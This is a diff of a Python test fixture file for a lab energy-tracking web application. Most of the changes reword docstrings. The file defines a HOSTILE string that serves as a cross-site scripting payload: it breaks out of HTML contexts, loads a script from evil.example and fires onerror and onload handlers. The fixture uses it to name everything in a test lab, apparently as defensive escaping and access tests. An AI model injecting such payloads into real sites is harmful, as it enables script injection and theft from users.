@@ -1,4 +1,4 @@
-"""Two labs, visitors of each kind, and names that attack."""
+"""Two labs, visitors of each kind, and hostile names."""
 
 from dataclasses import dataclass
 from uuid import UUID, uuid4
@@ -47,7 +47,7 @@ from tests.runs.fingerprints import a_run, parsed
 
 RUN = "7f1d3b52-2222-4333-8444-555566667777"
 GPU = "gpu:GPU-0000-1111"
-# Breaks out of attributes, titles, text areas, scripts and comments; loads, runs and posts where it can.
+# Breaks out of attributes, titles, text areas, scripts and comments; loads, runs and posts.
 HOSTILE = (
     "'\"--></title></textarea></script><script src=//evil.example/lcevil></script>"
     "<img src=//evil.example/lcevil onerror=lcevil()><svg/onload=lcevil()>"
@@ -58,7 +58,7 @@ HOSTILE = (
 def fill(
     small: SmallLab, *, run: str = RUN, name: str = "our-secret-run.py", consumer: str = "proc:ada/x", **facts: str
 ) -> None:
-    """Give a lab a project, a run with energy on a GPU, an invitation and a token."""
+    """Add a project, a run with energy on a GPU, an invitation and a token to a lab."""
     now = now_us()
     invite(lab=small.lab, role=Role.VIEWER, by=small.owner, now=now, email="guest@example.org", note=name)
     create_token(
@@ -102,7 +102,7 @@ def fill(
 
 
 def _attribute(small: SmallLab, name: str) -> None:
-    """Give a lab a rule and a claim."""
+    """Add a rule and a claim to a lab."""
     project = Project.objects.get(lab=small.lab, slug=PROJECT)
     criteria = Criteria(os_user=name[:100], node=small.node)
     rule = drafted_rule(lab=small.lab, criteria=criteria, project=project, person=small.owner, from_us=T0)
@@ -114,7 +114,7 @@ def _attribute(small: SmallLab, name: str) -> None:
 
 
 def _catalogue(small: SmallLab, name: str) -> None:
-    """Give a lab a model of its own and a figure with its document."""
+    """Add a custom model, and a figure with its document, to a lab."""
     model = add_model(lab=small.lab, kind="gpu", name="Own card", by=small.owner, now=T0)
     HardwareModel.objects.filter(pk=model.pk).update(name=name[:200], vendor=name[:60])
     draft = Draft(method="pcf", unit="item", total_ug=150_000_000_000, source=name[:400], note=name[:400])
@@ -123,7 +123,7 @@ def _catalogue(small: SmallLab, name: str) -> None:
 
 
 def _register(small: SmallLab, name: str) -> None:
-    """Give a lab an asset whose use the GPU's meter tells, and a file of assets that nobody confirmed yet."""
+    """Add an asset with use measured by the GPU's meter, and an unconfirmed asset import."""
     register_rows = {
         "serial": name[:120],
         "tag": name[:60],
@@ -140,7 +140,7 @@ def _register(small: SmallLab, name: str) -> None:
 
 
 def _repeat(small: SmallLab, uuid: UUID, name: str) -> None:
-    """Give a lab a run that another repeats, a question that was asked, and a stop because of it."""
+    """Add a run with a duplicate, a preflight check and a stop because of it."""
     run = Run.objects.get(lab=small.lab, uuid=uuid)
     wire = {"told": {name[:100]: name, "lr": 0.1}, "environment": {name[:64]: name[:255]}, "entry_name": name[:255]}
     put_fingerprint(run=run, payload=parsed(**wire))
@@ -167,7 +167,7 @@ def _repeat(small: SmallLab, uuid: UUID, name: str) -> None:
 
 
 def _server(small: SmallLab, uuid: UUID, name: str) -> None:
-    """Give a lab an MLflow server that told of a run, and is not asked."""
+    """Add an MLflow server with one imported run. It is not polled."""
     register_rows = SourceIn(name=name[:100], address="http://127.0.0.1:9", project=Project.objects.filter(lab=small.lab)[0],
                     site=small.site, patterns=((name[:200], Project.objects.filter(lab=small.lab)[0]),))  # fmt: skip
     source = add_source(lab=small.lab, payload=register_rows, by=small.owner, now=now_us())
@@ -179,7 +179,7 @@ def _server(small: SmallLab, uuid: UUID, name: str) -> None:
 
 
 def _artifact(small: SmallLab, run: str, name: str) -> None:
-    """Give a lab a model that the run made, and a copy of it."""
+    """Add a model produced by the run, and a copy of it."""
     register_rows = {"name": name[:255], "licence": name[:100], "user": name[:100], "tags": {name[:100]: name[:300]},
             "facts": {name[:100]: name[:300]}}  # fmt: skip
     copies = [{"path": f"/data/{name}"[:4096], "medium": "ssd"}]
@@ -222,7 +222,7 @@ def _artifact(small: SmallLab, run: str, name: str) -> None:
 
 @dataclass
 class World:
-    """Our lab with use, another lab, and one client of each kind of visitor."""
+    """Our lab with energy use, another lab, and one client of each kind of visitor."""
 
     ours: SmallLab
     theirs: SmallLab
@@ -269,14 +269,14 @@ def world(db: None) -> World:
 
 
 def _ended_token(small: SmallLab, **end: int) -> str:
-    """Return a token of the owner that was good once."""
+    """Return a token of the owner that is no longer valid. ``end``: the field that ends it."""
     text = issue_user_token(lab=small.lab, user=small.owner, now=T0)
     Token.objects.filter(public_id=text.split("_")[2]).update(**end)
     return text
 
 
 def _removed(small: SmallLab, now: int) -> Client:
-    """Return the session of somebody who is no longer a member: nothing of any lab is theirs to see."""
+    """Return the session of a removed member, who can see no lab."""
     person = add_person(small, Role.MEMBER)
     client = _session(person)
     remove_member(lab=small.lab, person=person, by=small.owner, now=now)
@@ -284,7 +284,10 @@ def _removed(small: SmallLab, now: int) -> Client:
 
 
 def hostile_lab(name: str = HOSTILE) -> tuple[SmallLab, Client]:
-    """Return a lab in which everything a person or a machine may name is named ``name``, and its owner's client."""
+    """Return a lab and the session of its owner.
+
+    Everything that a person or a node can name is named ``name``.
+    """
     small = small_lab(name="Lab")
     Lab.objects.filter(pk=small.lab.pk).update(name=name[:200])
     Project.objects.filter(lab=small.lab).update(name=name[:200])
